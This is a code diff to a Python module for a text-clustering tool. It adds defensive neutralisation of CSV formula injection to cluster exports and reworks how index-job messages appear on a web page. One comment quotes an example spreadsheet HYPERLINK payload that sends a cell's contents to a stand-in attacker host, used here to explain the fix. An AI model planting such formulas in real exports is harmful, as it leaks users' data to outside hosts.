@@ -301,9 +301,24 @@ def cluster_summary(response: ClusterResponse, *, wall_s: float, v_measure: floa
             "\u201d</small></div>")
 
 
+# What makes a spreadsheet read a cell as a formula (OWASP, "CSV injection"): a clustered text
+# `=HYPERLINK("http://evil.example/?x="&A1,"click me")` became a live link in the export.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_text(value: object) -> str:
+    """A text cell of a CSV export, with a ``'`` put before a first character that would make a
+    spreadsheet run it as a formula (``= + - @``, tab, carriage return); the spreadsheet shows
+    the text, and the quote says it was neutralised. Numbers are written as they are."""
+    text = str(value)
+    return "'" + text if text.startswith(_FORMULA_STARTS) else text
+
+
 def write_cluster_csv(response: ClusterResponse, folder: Path,
                       labels: Sequence[str] | None = None) -> Path:
-    """Every text with its cluster, the cluster's name, map position (and gold label)."""
+    """Every text with its cluster, the cluster's name, map position (and gold label); every
+    text cell (texts, names, keywords, labels: from documents or a person) goes through
+    ``csv_text``."""
     folder.mkdir(parents=True, exist_ok=True)
     path = folder / f"clusters-{time.strftime('%Y%m%d-%H%M%S')}-{time.monotonic_ns() % 10**6}.csv"
     by_id = {c.id: c for c in response.clusters}
@@ -315,16 +330,36 @@ def write_cluster_csv(response: ClusterResponse, folder: Path,
                                                       response.coordinates, strict=True)):
             c = by_id.get(label)
             shared = "" if c is None or c.name_count is None else f"{c.name_count} of {c.size}"
-            writer.writerow([i, label, c.name if c else "", shared, ", ".join(c.keywords) if c else "",
-                             x, y, text] + ([labels[i]] if labels is not None else []))
+            cells = [c.name if c else "", shared, ", ".join(c.keywords) if c else ""]
+            writer.writerow([i, label, *map(csv_text, cells), x, y, csv_text(text)]
+                            + ([csv_text(labels[i])] if labels is not None else []))
     return path
 
 
 # ------------------------------------------------------------ jobs, catalog
 
 
-def job_html(job: JobInfo, total: int | None) -> str:
-    """A progress bar for an index job, with its counters and state."""
+def job_message(job: JobInfo, hint: str | None = None) -> str:
+    """The job's message in the page's words. A stopped (``interrupted``) job's message ends
+    with the command line that resumes it (`facet index ... --collection ...`), which a person
+    on the page cannot run: that part is left out and ``hint`` (what to do on the page) takes
+    its place, unless another job has taken the work up already ("resumed by job 9")."""
+    message = job.message or ""
+    if job.state != "interrupted":
+        return message
+    # The core's messages put what happened first and the hint after "; " (it keeps only the
+    # first part itself once a job resumes another).
+    kept = [part for part in message.split("; ") if "`" not in part]
+    text = "; ".join(kept) or "stopped before it finished"
+    if hint and "resumed by job" not in text:
+        text += f"; {hint}"
+    return text
+
+
+def job_html(job: JobInfo, total: int | None, *, message: str | None = None,
+             notices: Sequence[str] = ()) -> str:
+    """A progress bar for an index job, with its collection, counters and state, its message
+    (``message`` in the page's words, default the job's own) and any ``notices`` under it."""
     done = job.docs_seen
     finished = job.state in ("completed", "failed", "interrupted")
     if job.state == "completed":
@@ -335,15 +370,17 @@ def job_html(job: JobInfo, total: int | None) -> str:
         fraction = 0.0
     of = f"/{total:,}" if total else ""
     elapsed = sum(job.timings.values())
-    text = (f"Job {job.id} <b>{esc(job.state)}</b>: {done:,}{of} documents seen, "
+    text = (f"Job {job.id} into <b>{esc(job.collection)}</b> <b>{esc(job.state)}</b>: "
+            f"{done:,}{of} documents seen, "
             f"{job.docs_indexed:,} indexed, {job.docs_skipped:,} unchanged, "
             f"{job.docs_failed:,} failed, {job.chunks_written:,} "
             f"chunk{'' if job.chunks_written == 1 else 's'} written"
             + (f" ({elapsed:.1f} s of work)" if elapsed else ""))
-    message = f'<div class="facet-note">{esc(job.message)}</div>' if job.message else ""
+    said = job_message(job) if message is None else message
+    note = f'<div class="facet-note facet-job-message">{esc(said)}</div>' if said else ""
     return (f'<div class="facet-job" data-state="{esc(job.state)}">'
             f'<div class="facet-bar"><div style="width:{100 * fraction:.0f}%"></div></div>'
-            f'<div class="facet-info">{text}</div>{message}</div>')
+            f'<div class="facet-info">{text}</div>{note}{notices_html(notices)}</div>')
 
 
 def other_jobs_html(jobs: Sequence[JobInfo]) -> str:
@@ -387,10 +424,14 @@ def collection_rows(infos: Sequence[CollectionInfo]) -> list[list[Any]]:
 
 
 JOB_COLUMNS = ["job", "collection", "state", "seen", "indexed", "failed", "chunks", "embedder",
-               "started"]
+               "started", "message"]
 
 
-def job_rows(jobs: Sequence[JobInfo]) -> list[list[Any]]:
-    """Recent jobs, newest first."""
+def job_rows(jobs: Sequence[JobInfo], messages: Mapping[int, str] | None = None) -> list[list[Any]]:
+    """Recent jobs, newest first, each with its message: ``messages[id]`` where the page has
+    its own words for it (a stopped job: how to resume it here), else ``job_message``. A
+    stopped or failed job showed only its state, and nothing said why or what to do."""
+    messages = messages or {}
     return [[j.id, j.collection, j.state, j.docs_seen, j.docs_indexed, j.docs_failed,
-             j.chunks_written, j.embedder, j.started_at] for j in jobs]
+             j.chunks_written, j.embedder, j.started_at, messages.get(j.id, job_message(j))]
+            for j in jobs]
